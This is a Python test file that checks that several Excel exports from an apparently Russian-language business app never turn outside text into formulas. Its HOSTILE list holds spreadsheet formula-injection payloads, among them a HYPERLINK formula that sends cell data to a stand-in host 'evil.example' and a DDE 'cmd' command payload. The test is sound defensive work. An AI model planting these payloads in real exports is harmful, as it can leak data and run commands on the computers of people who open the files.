"""Text from outside never becomes a formula in any export (issue 10, item 8)."""

from __future__ import annotations

import dataclasses
import datetime as dt
import itertools

import pytest
from openpyxl import load_workbook

from omnidesk.integrations.excel import (
    ActRow,
    Party,
    PaymentRow,
    PaymentsRegister,
    ReconciliationAct,
    UnmatchedRow,
    UnmatchedTransfers,
    write_act,
    write_payments,
    write_unmatched,
)
from omnidesk.integrations.excel.route_sheets import RouteSheet, SheetStop, write_route_sheets

HOSTILE = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Нажмите\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3",
           "@SUM(1,2)", "=1+1", "\t=1+1", "Имя\x00с\x07управляющими")


def _hostile(obj, strings):
    """The dataclass with every text field (also inside nested ones and tuples) replaced by hostile text."""
    changes = {}
    for field in dataclasses.fields(obj):
        value = getattr(obj, field.name)
        if isinstance(value, str):
            changes[field.name] = next(strings)
        elif dataclasses.is_dataclass(value):
            changes[field.name] = _hostile(value, strings)
        elif isinstance(value, tuple):
            changes[field.name] = tuple(
                _hostile(v, strings) if dataclasses.is_dataclass(v) else next(strings) if isinstance(v, str) else v
                for v in value)
    return dataclasses.replace(obj, **changes)


DAY = dt.date(2026, 3, 10)
EXPORTS = {
    "route sheets": lambda s, path: write_route_sheets([_hostile(RouteSheet(
        "Смирнов", "+7", "ГАЗель", "10.03.2026", "08:40", "15:10", "84,2",
        (SheetStop(1, "pickup", "09:00", "09–18", "1", "Склад", "Люберцы", "", 0, ("Котёл",), 40, "Склад"),
         SheetStop(2, "delivery", "10:00", "10–12", "2", "Иванов", "Москва", "+7916", 100, ("Кран", "Труба"), 1),
         SheetStop(3, "carrier", "12:00", "", "3", "Петров", "СДЭК", "", 0, ("Радиатор",), 15, "СДЭК 1"))), s)], path),
    "act": lambda s, path: write_act(_hostile(ReconciliationAct(
        Party("ООО «Продавец»", "7700000000"), Party("Покупатель", "7711111111", "771101001"), 5, DAY, DAY, 100,
        (ActRow(DAY, "order", "Заказ №1", "подробности", 100, 0), ActRow(DAY, "payment", "ПП №2", "оплата", 0, 50))),
        s), path),
    "payments": lambda s, path: write_payments(_hostile(PaymentsRegister(DAY, DAY, (
        PaymentRow(1, dt.datetime(2026, 3, 10, 12), "перевод", "Иванов", "7700", "Иванов", "17", "оплата", 100, 100,
                   "1", "bank"),)), s), path),
    "unmatched": lambda s, path: write_unmatched(_hostile(UnmatchedTransfers(DAY, DAY, (
        UnmatchedRow(1, DAY, "17", 100, "Иванов", "7700", "40817", "оплата", "не найден"),)), s), path),
}


@pytest.mark.parametrize("export", sorted(EXPORTS))
def test_no_cell_of_any_export_is_a_formula(export, tmp_path):
    path = tmp_path / f"{export}.xlsx"
    EXPORTS[export](itertools.cycle(HOSTILE), path)
    workbook = load_workbook(path)
    texts = []
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (export, ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(("=", "+", "-", "@")):
                        assert cell.quotePrefix, (export, cell.coordinate, cell.value)
    assert any("HYPERLINK" in t for t in texts) and any("cmd|" in t for t in texts), "the hostile text was written"
